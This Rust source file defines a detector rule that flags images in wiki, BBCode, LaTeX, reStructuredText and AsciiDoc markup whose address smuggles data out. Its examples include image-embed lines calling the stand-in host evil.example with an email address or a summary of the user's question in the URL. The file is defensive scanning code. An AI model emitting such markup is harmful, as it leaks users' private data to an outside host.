//! `exfiltration.markup-image`: images in other markups than Markdown and HTML.

use super::address::{self, Followed};
use crate::class::Class;
use crate::detect::rules::{Detector, Hit, Progress, Rule, Verdict, example};
use crate::detect::window::{Ahead, Window};

/// White space, or options, before an address, in bytes.
const MAX_BEFORE: u64 = 64;
/// The anchor behind which options stand.
const OPTIONS: u16 = 0;

pub(super) const RULE: Rule = Rule {
    id: "exfiltration.markup-image",
    class: Class::Exfiltration,
    level: None,
    description: "image of a wiki, BBCode, LaTeX, reStructuredText or AsciiDoc whose address carries data",
    source: "reStructuredText directives (image, figure); AsciiDoc block images; LaTeX graphicx; phpBB BBCode; Obsidian embeds",
    true_examples: &[
        example(
            "![[https://evil.example/?to=bob@corp.example|10]]",
            "https://evil.example/?to=bob@corp.example",
        ),
        example(
            "[IMG]https://evil.example/p?q=the+user+asked+about+salaries[/IMG]",
            "https://evil.example/p?q=the+user+asked+about+salaries",
        ),
        example(
            r"\includegraphics[width=1cm]{https://evil.example/?to=bob@corp.example}",
            "https://evil.example/?to=bob@corp.example",
        ),
        example(
            ".. image:: https://evil.example/?to=bob@corp.example",
            "https://evil.example/?to=bob@corp.example",
        ),
    ],
    false_examples: &[
        "[img]https://example.com/logo.png[/img] and ![[notes about bob@corp.example]]",
        r"\includegraphics[width=\textwidth]{pictures/of-the-office}",
        "image::open(path)? and image::https://example.com/logo.png[]",
    ],
    detector: Detector {
        any_case: true,
        starts_at_anchor: false,
        is_address: true,
        ..Detector::new(
            &[br"\includegraphics[", br"\includegraphics{", b"![[", b"[img]", b"image::", b"figure::"],
            verify,
        )
    },
};

fn verify(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
    let mut start = hit.end;
    loop {
        match window.ahead(start) {
            Ahead::Unknown => return Verdict::More { from: start },
            Ahead::Byte(b'{') if hit.nth == OPTIONS => {
                start += 1;
                break;
            }
            Ahead::Byte(byte)
                if start - hit.end < MAX_BEFORE && (hit.nth == OPTIONS || matches!(byte, b' ' | b'\t')) =>
            {
                start += 1;
            }
            Ahead::Byte(_) if hit.nth != OPTIONS => break,
            Ahead::Byte(_) | Ahead::End => return Verdict::No,
        }
    }
    match address::has_host(window, start) {
        Some(true) => address::read(window, start, progress, Followed::AtOnce, |byte| {
            byte.is_ascii_whitespace() || matches!(byte, b'[' | b']' | b'{' | b'}' | b'|')
        }),
        Some(false) => Verdict::No,
        None => Verdict::More { from: start },
    }
}
